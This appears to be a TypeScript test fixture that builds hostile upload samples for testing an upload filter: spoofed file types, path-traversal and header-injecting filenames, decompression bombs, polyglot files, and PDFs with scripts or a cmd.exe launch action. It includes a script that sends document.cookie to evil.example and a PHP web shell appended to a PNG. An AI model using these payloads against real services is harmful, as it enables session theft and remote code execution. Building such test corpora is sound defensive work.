import { deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { pdf, streamOf } from './pdfs.ts'
import { photo, picture } from './pictures.ts'

/** A file that must be refused, under the name and the type that its sender claims. */
export type HostileFile = { readonly about: string; readonly name: string; readonly type?: string; readonly bytes: Buffer }

const script = 'app.alert("x")'
const program = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(512, 0x4d), Buffer.from('PE\0\0', 'latin1')])
const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
const page = '<!doctype html><html><script>fetch("//evil.example/"+document.cookie)</script></html>'

/** Everything that people have tried to get past an upload with, made anew each time. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const jpeg = await photo()
  const png = await picture().png().toBuffer()
  return [...oddKinds(jpeg), ...oddNames(jpeg), ...brokenPictures(jpeg, png), ...(await bombs()), ...mixed(jpeg, png), ...activePdfs()]
}

function oddKinds(jpeg: Buffer): readonly HostileFile[] {
  return [
    { about: 'nothing at all', name: 'id.jpg', bytes: Buffer.alloc(0) },
    { about: 'a program that says it is a photo', name: 'id.jpg', type: 'image/jpeg', bytes: program },
    { about: 'an SVG with a script', name: 'id.svg', type: 'image/svg+xml', bytes: Buffer.from(svg) },
    { about: 'an SVG that says it is a PNG', name: 'id.png', type: 'image/png', bytes: Buffer.from(svg) },
    { about: 'a page that says it is a photo', name: 'id.jpg', type: 'image/jpeg', bytes: Buffer.from(page) },
    { about: 'a photo in another box: GIF', name: 'id.jpg', bytes: Buffer.concat([Buffer.from('GIF89a\x01\0\x01\0', 'latin1'), jpeg]) },
    { about: 'the first letters of a JPEG and nothing more', name: 'id.jpg', bytes: Buffer.from([0xff, 0xd8, 0xff, 0xe0]) },
    { about: 'a ZIP bomb', name: 'id.jpg', bytes: zip(deflateSync(Buffer.alloc(9_000_000))) },
    { about: 'a gzip bomb', name: 'id.pdf', type: 'application/pdf', bytes: gzipSync(Buffer.alloc(50_000_000)) },
  ]
}

function oddNames(jpeg: Buffer): readonly HostileFile[] {
  const named = (about: string, name: string) => ({ about: `a name with ${about}`, name, type: 'image/jpeg', bytes: jpeg })
  return [
    named('a way up', '../../../../etc/cron.d/id.jpg'),
    named('a way up of Windows', '..\\..\\windows\\id.jpg'),
    named('a null byte', 'id.php\0.jpg'),
    named('5,000 letters', `${'a'.repeat(4_996)}.jpg`),
    named('two endings', 'id.php.jpg'),
    named('the ending of a program', 'id.jpg.exe'),
    named('letters that run the other way', 'id\u202egpj.exe'),
    named('line breaks', 'id\r\nSet-Cookie: a=b.jpg'),
  ]
}

function brokenPictures(jpeg: Buffer, png: Buffer): readonly HostileFile[] {
  const turned = Buffer.from(png)
  turned.fill(0x5a, 60, 400)
  return [
    { about: 'half a JPEG', name: 'id.jpg', bytes: jpeg.subarray(0, jpeg.length / 2) },
    { about: 'half a PNG', name: 'id.png', bytes: png.subarray(0, png.length / 2) },
    { about: 'a PNG with other bytes in the middle', name: 'id.png', bytes: turned },
  ]
}

async function bombs(): Promise<readonly HostileFile[]> {
  const plain = (width: number, height: number) =>
    sharp({ create: { width, height, channels: 3, background: 'white' }, limitInputPixels: false })
  const wide = await plain(10_000, 10_000).png({ compressionLevel: 9 }).toBuffer()
  const webp = await plain(5_000, 5_000).webp({ effort: 0 }).toBuffer()
  const layered = await plain(5_000, 5_000).jpeg({ progressive: true, quality: 20 }).toBuffer()
  const zeros = deflateSync(Buffer.alloc(60_000_000), { level: 9 })
  const six = Array.from({ length: 6 }, () => streamOf('<< >>', zeros))
  return [
    { about: 'a small PNG of 100 million points', name: 'id.png', bytes: wide },
    { about: 'a small WebP of 25 million points', name: 'id.webp', bytes: webp },
    { about: 'a JPEG in layers of 25 million points', name: 'id.jpg', bytes: layered },
    { about: 'a PDF that unfolds to 360 MB', name: 'id.pdf', bytes: pdf({ objects: six }) },
  ]
}

function mixed(jpeg: Buffer, png: Buffer): readonly HostileFile[] {
  const archive = zip(Buffer.from('evil'))
  return [
    { about: 'a photo that is an archive, too', name: 'id.jpg', bytes: Buffer.concat([jpeg, archive]) },
    { about: 'a photo that is a page, too', name: 'id.jpg', bytes: Buffer.concat([jpeg, Buffer.from(page)]) },
    { about: 'a PNG with PHP in it', name: 'id.png', bytes: Buffer.concat([png, Buffer.from('<?php system($_GET[0]); ?>')]) },
    {
      about: 'a PDF that is an archive, too',
      name: 'id.pdf',
      bytes: Buffer.concat([pdf().subarray(0, -6), archive, Buffer.from('%%EOF\n')]),
    },
    { about: 'a PDF with a program after its end', name: 'id.pdf', bytes: Buffer.concat([pdf(), program]) },
  ]
}

function activePdfs(): readonly HostileFile[] {
  const open = (catalog: string, objects: readonly (string | Buffer)[] = []) => pdf({ catalog, objects })
  const inside = Buffer.from(`10 0 11 20 << /S /JavaScript /JS (${script}) >> << /Type /Action >>`)
  const hidden = streamOf('<< /Type /ObjStm /N 2 /First 11 >>', deflateSync(inside))
  const twice = streamOf('<< /Type /ObjStm /N 2 /First 11 >>', deflateSync(deflateSync(inside)), '[/FlateDecode /FlateDecode]')
  const named = (about: string, bytes: Buffer) => ({ about: `a PDF ${about}`, name: 'statement.pdf', type: 'application/pdf', bytes })
  return [
    named('with a script', open(`/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script}) >>] >> >>`)),
    named('with a script whose name is written in numbers', open(`/Names << /J#61vaScr#69pt 10 0 R >>`)),
    named('that starts a program', open('/OpenAction << /S /Launch /F (cmd.exe) >>')),
    named('with an action on closing', open('/AA << /WC 10 0 R >>')),
    named('with a file in it', open('/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >>')),
    named('with a form of XFA', open('/AcroForm << /XFA 10 0 R /Fields [] >>')),
    named('with rich media', open('', ['<< /Type /Annot /Subtype /RichMedia >>'])),
    named('with a script in a folded object', open('', [hidden])),
    named('with a script that is folded twice', open('', [twice])),
    named('with a lock', pdf({ trailer: '/Encrypt 10 0 R' })),
    named('without an end', pdf().subarray(0, -40)),
    named('of a version that there is not', pdf({ version: '9.9' })),
  ]
}

/** An archive of one file. */
function zip(folded: Buffer): Buffer {
  const name = Buffer.from('a.txt')
  const head = Buffer.alloc(30)
  head.write('PK\x03\x04', 'latin1')
  head.writeUInt16LE(8, 8)
  head.writeUInt32LE(folded.length, 18)
  head.writeUInt16LE(name.length, 26)
  const entry = Buffer.alloc(46)
  entry.write('PK\x01\x02', 'latin1')
  entry.writeUInt16LE(name.length, 28)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(1, 10)
  return Buffer.concat([head, name, folded, entry, name, end])
}
